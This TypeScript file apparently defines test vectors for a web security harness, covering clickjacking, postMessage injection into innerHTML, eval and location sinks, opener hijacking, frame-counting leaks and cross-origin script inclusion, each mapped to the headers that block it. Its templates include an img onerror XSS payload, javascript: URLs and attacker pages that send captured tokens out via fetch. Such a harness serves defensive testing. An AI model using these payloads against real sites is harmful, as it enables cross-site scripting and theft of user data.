import type { Defence, Vector, VectorFile } from './vector.ts';

const FRAMES = 'https://www.w3.org/TR/CSP3/#directive-frame-ancestors';
const OPENERS = 'https://html.spec.whatwg.org/multipage/browsers.html#cross-origin-opener-policies';
const LEAKS = 'https://xsleaks.dev/';
const MESSAGES = 'https://html.spec.whatwg.org/multipage/web-messaging.html#security-postmsg';
const SCRIPT: VectorFile = { name: 'script.js', type: 'text/javascript', text: '{run}' };
const FRAME = '<iframe src="{page}" onload="{then}"></iframe>';

/** A page of the other origin, which shows the application in a frame and then does something. */
function framing(then: string): VectorFile {
  return { name: 'frame.html', type: 'text/html', text: `<!doctype html>${FRAME.replace('{then}', then)}` };
}

/** The same with a window that it opens. What it says is said until somebody listens. */
function opening(then: string): VectorFile {
  const code = `const w=open('{page}');setInterval(()=>{${then}},50)`;
  return { name: 'open.html', type: 'text/html', text: `<!doctype html><script>${code}</script>` };
}

type Row = readonly [
  id: string,
  of: Vector['class'],
  idea: string,
  place: string,
  payload: string,
  blockedBy: readonly Defence[],
  file: VectorFile,
  references: readonly string[],
  more?: Partial<Vector>,
];

const SAY = "this.contentWindow.postMessage(atob('{payload-base64}'),'*')";
const SAY_WINDOW = "w.postMessage(atob('{payload-base64}'),'*')";
const IMG = '<img src=x: onerror={run}>';

const ROWS: readonly Row[] = [
  [
    'F01',
    'framing',
    'the application works inside a frame of another site',
    'framed',
    '',
    ['frame-ancestors'],
    framing(''),
    [FRAMES],
  ],
  [
    'F02',
    'message',
    'a site that frames the application sends HTML that it shows',
    'message:innerHTML',
    IMG,
    ['frame-ancestors', 'trusted-types', 'script-src'],
    framing(SAY),
    [MESSAGES, FRAMES],
  ],
  [
    'F03',
    'message',
    'a site that frames the application sends code that it evaluates',
    'message:eval',
    '{run}',
    ['frame-ancestors', 'no-unsafe-eval', 'trusted-types'],
    framing(SAY),
    [MESSAGES, FRAMES],
  ],
  [
    'F04',
    'message',
    'a site that opened the application sends HTML that it shows',
    'message:innerHTML',
    IMG,
    ['opener-policy', 'trusted-types', 'script-src'],
    opening(SAY_WINDOW),
    [MESSAGES, OPENERS],
  ],
  [
    'F09',
    'message',
    'a site that opened the application sends code that it evaluates',
    'message:eval',
    '{run}',
    ['opener-policy', 'no-unsafe-eval', 'trusted-types'],
    opening(SAY_WINDOW),
    [MESSAGES, OPENERS],
  ],
  [
    'F10',
    'message',
    'a site that opened the application sends an address to go to',
    'message:location',
    'javascript:{run}',
    ['opener-policy', 'script-src', 'trusted-types'],
    opening(SAY_WINDOW),
    [MESSAGES, OPENERS],
  ],
  [
    'F11',
    'message',
    'a site that frames the application sends the address of a script',
    'message:script-src',
    '{foreign}script.js',
    ['frame-ancestors', 'trusted-types', 'no-strict-dynamic'],
    framing(SAY),
    [MESSAGES, FRAMES],
    { foreignFiles: [framing(SAY), SCRIPT] },
  ],
  [
    'F12',
    'message',
    'the application tells whoever frames it',
    'own-script',
    "parent.postMessage('{token}','*')",
    ['frame-ancestors'],
    {
      name: 'frame.html',
      type: 'text/html',
      text: '<!doctype html><script>onmessage=(e)=>fetch(\'got?\'+e.data)</script><iframe src="{page}"></iframe>',
    },
    [MESSAGES],
    { proof: 'request' },
  ],
  [
    'F13',
    'message',
    'the application tells whoever opened it',
    'own-script',
    "opener?.postMessage('{token}','*')",
    ['opener-policy'],
    {
      name: 'open.html',
      type: 'text/html',
      text: "<!doctype html><script>onmessage=(e)=>fetch('got?'+e.data);open('{page}')</script>",
    },
    [MESSAGES, OPENERS],
    { proof: 'request' },
  ],
  [
    'F14',
    'framing',
    'a site that opened the application counts its frames',
    'own-script',
    "document.body.append(document.createElement('iframe'))",
    ['opener-policy'],
    opening("if(w.length===1)fetch('got?{token}')"),
    [LEAKS, OPENERS],
    { proof: 'request' },
  ],
  [
    'F15',
    'framing',
    'another site runs a script with data of the application',
    'text',
    '',
    ['resource-policy'],
    {
      name: 'include.html',
      type: 'text/html',
      text: '<!doctype html><script>function data(x){fetch(\'got?\'+x)}</script><script src="{app}data.js"></script>',
    },
    ['https://fetch.spec.whatwg.org/#cross-origin-resource-policy-header'],
    { proof: 'request' },
  ],
  [
    'F16',
    'framing',
    'a site that was opened by the application leads it elsewhere',
    'text',
    '<a id=hit target=_blank rel=opener href="{foreign}opened.html">x</a>',
    ['encoding', 'opener-policy'],
    { name: 'opened.html', type: 'text/html', text: "<!doctype html><script>opener.location='{leak}'</script>" },
    [OPENERS],
    { proof: 'request', click: true, start: 'page' },
  ],
];

export const FRAMING: readonly Vector[] = ROWS.map(
  ([id, of, idea, place, payload, blockedBy, file, references, more = {}]) => ({
    id,
    class: of,
    idea,
    place,
    payload,
    proof: 'page',
    blockedBy,
    references,
    foreignFiles: [file],
    start: { foreign: file.name },
    ...more,
  }),
);
